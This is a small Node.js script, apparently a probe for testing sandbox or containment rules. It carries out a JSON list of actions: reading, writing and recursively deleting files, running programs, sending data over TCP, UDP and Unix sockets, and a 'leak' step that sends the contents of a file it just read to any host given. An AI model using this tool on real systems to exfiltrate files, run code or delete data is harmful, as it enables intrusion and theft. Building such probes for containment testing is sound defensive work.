// SPDX-License-Identifier: Apache-2.0
// intruder.mjs - does one thing after another as it is told (JSON, an argument),
// and says how each went. What really happened is for others to find out.
import fs from 'node:fs';
import net from 'node:net';
import dgram from 'node:dgram';
import { execFileSync } from 'node:child_process';

const connect = (to, text) => new Promise((done, fail) => {
  const s = net.connect(to, () => s.end(text ?? 'x', () => done('sent')));
  s.on('error', fail);
});
const send = ({ host, port, text }) => new Promise((done, fail) => {
  const s = dgram.createSocket('udp4').on('error', fail);
  s.send(text ?? 'x', port, host, (e) => { s.close(); if (e) fail(e); else done('sent'); });
});
const deeds = {
  read: (a) => fs.readFileSync(a.path, 'utf8'),
  list: (a) => fs.readdirSync(a.path).join(),
  write: (a) => fs.writeFileSync(a.path, a.text ?? 'x'),
  append: (a) => fs.appendFileSync(a.path, a.text ?? 'x'),
  copy: (a) => { fs.copyFileSync(a.path, a.to); fs.chmodSync(a.to, 0o755); },
  rename: (a) => fs.renameSync(a.path, a.to),
  link: (a) => fs.linkSync(a.path, a.to),
  symlink: (a) => fs.symlinkSync(a.path, a.to),
  remove: (a) => fs.rmSync(a.path, { recursive: true }),
  exec: (a) => execFileSync(a.path, a.args ?? [], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }),
  tcp: (a) => connect({ host: a.host, port: a.port }, a.text),
  unix: (a) => connect({ path: a.path }, a.text),
  udp: send,
  // sends what the step before has read
  leak: (a, said) => (said.at(-1).ok ? connect({ host: a.host, port: a.port }, said.at(-1).value) : 'nothing to send'),
};

const said = [];
for (const step of JSON.parse(process.argv[2])) {
  try { said.push({ ok: true, value: await deeds[step.do](step, said) }); } catch (e) { said.push({ ok: false, value: e.code ?? e.message }); }
}
console.log(JSON.stringify(said));
